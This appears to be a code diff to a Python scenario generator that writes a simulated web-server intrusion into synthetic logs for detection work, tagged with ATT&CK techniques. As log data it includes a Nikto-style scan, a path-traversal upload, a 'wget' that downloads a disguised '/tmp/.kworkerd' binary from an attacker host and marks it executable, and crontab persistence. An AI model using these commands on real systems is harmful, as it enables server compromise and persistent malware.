@@ -28,16 +28,33 @@ def write(script: Script) -> None:
     def fetch_tools(scene: Scene, time_us: int, mark: int) -> None:
         command = f"wget -q http://{TOOLS.name}/kworkerd -O /tmp/.kworkerd"
         pid = linux.run(
-            scene, time_us, server, "www-data", ("sh", "-c", f"{command}; chmod +x /tmp/.kworkerd"), "/usr/bin/dash", mark,
-            parent_pid=1021, folder="/srv/www/uploads/2026",
-        )  # fmt: skip
+            scene,
+            time_us,
+            server,
+            "www-data",
+            ("sh", "-c", f"{command}; chmod +x /tmp/.kworkerd"),
+            "/usr/bin/dash",
+            mark,
+            parent_pid=1021,
+            folder="/srv/www/uploads/2026",
+        )
         words = tuple(command.split())
-        linux.run(scene, time_us + 5_000, server, "www-data", words, "/usr/bin/wget", mark, parent_pid=pid, folder="/srv/www")
+        linux.run(
+            scene, time_us + 5_000, server, "www-data", words, "/usr/bin/wget", mark, parent_pid=pid, folder="/srv/www"
+        )
         request = Request("GET", TOOLS.name, "/kworkerd", "Wget/1.21.4", 200, 0, 1_204_224, "application/x-executable")
         network.fetch(scene, time_us + 40_000, server, TOOLS, request, mark)
         words = ("chmod", "+x", "/tmp/.kworkerd")  # noqa: S108 - the intruder's path, in a log
         linux.run(
-            scene, time_us + 3 * SECOND, server, "www-data", words, "/usr/bin/chmod", mark, parent_pid=pid, folder="/srv/www"
+            scene,
+            time_us + 3 * SECOND,
+            server,
+            "www-data",
+            words,
+            "/usr/bin/chmod",
+            mark,
+            parent_pid=pid,
+            folder="/srv/www",
         )
 
     step = script.step("tools", "T1105", "The web server fetches a program", "Web 服务器下载程序")
@@ -48,11 +65,19 @@ def write(script: Script) -> None:
         pid = linux.run(
             scene, time_us, server, "www-data", ("sh", "-c", command), "/usr/bin/dash", mark, parent_pid=1021
         )
-        linux.run(scene, time_us + 3_000, server, "www-data", ("crontab", "-"), "/usr/bin/crontab", mark, parent_pid=pid)
+        linux.run(
+            scene, time_us + 3_000, server, "www-data", ("crontab", "-"), "/usr/bin/crontab", mark, parent_pid=pid
+        )
         scene.audit.touched(
-            server, time_us + 9_000, "/var/spool/cron/crontabs/www-data", "/usr/bin/crontab", 33, auid=linux.NOBODY, key="cron",
+            server,
+            time_us + 9_000,
+            "/var/spool/cron/crontabs/www-data",
+            "/usr/bin/crontab",
+            33,
+            auid=linux.NOBODY,
+            key="cron",
             mark=mark,
-        )  # fmt: skip
+        )
 
     step = script.step("job", "T1053.003", "A job starts it every half hour", "定时任务每半小时启动一次")
     script.plant(step, script.at(0.5, 20.6), server, "www-data", stay, file="/var/spool/cron/crontabs/www-data")
@@ -89,7 +114,20 @@ def _enter(script: Script) -> None:
             network.connect(scene, moment_us, ATTACKER, server.address, 443, "ssl", 400_000, 1_100, 2_400, mark)
 
     def scan(scene: Scene, time_us: int, mark: int) -> None:
-        words = ("admin", "backup", "old", "upload", "shell", "db", "test", "manage", "api/v1", "editor", "install", "console")
+        words = (
+            "admin",
+            "backup",
+            "old",
+            "upload",
+            "shell",
+            "db",
+            "test",
+            "manage",
+            "api/v1",
+            "editor",
+            "install",
+            "console",
+        )
         rows = tuple(
             ("GET", f"/{word}{ending}", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)", 404)
             for word in words
@@ -97,7 +135,9 @@ def _enter(script: Script) -> None:
         )
         requests(scene, time_us, mark, rows)
 
-    step = script.step("scan", "T1595.002", "Somebody goes through the web site, looking for holes", "有人逐一探测网站漏洞")
+    step = script.step(
+        "scan", "T1595.002", "Somebody goes through the web site, looking for holes", "有人逐一探测网站漏洞"
+    )
     script.plant(step, script.at(0.17, 17.1), server, "", scan, source=ATTACKER)
 
     def inject(scene: Scene, time_us: int, mark: int) -> None:
@@ -107,7 +147,9 @@ def _enter(script: Script) -> None:
             ("POST", "/editor/upload.php?dir=../../uploads/2026", _BROWSER, 200),
         ))  # fmt: skip
 
-    step = script.step("exploit", "T1190", "An injection gives a login, an upload takes a script", "注入取得登录，再上传脚本")
+    step = script.step(
+        "exploit", "T1190", "An injection gives a login, an upload takes a script", "注入取得登录，再上传脚本"
+    )
     script.plant(step, script.at(0.17, 17.6), server, "", inject, source=ATTACKER)
 
     def use(scene: Scene, time_us: int, mark: int) -> None:
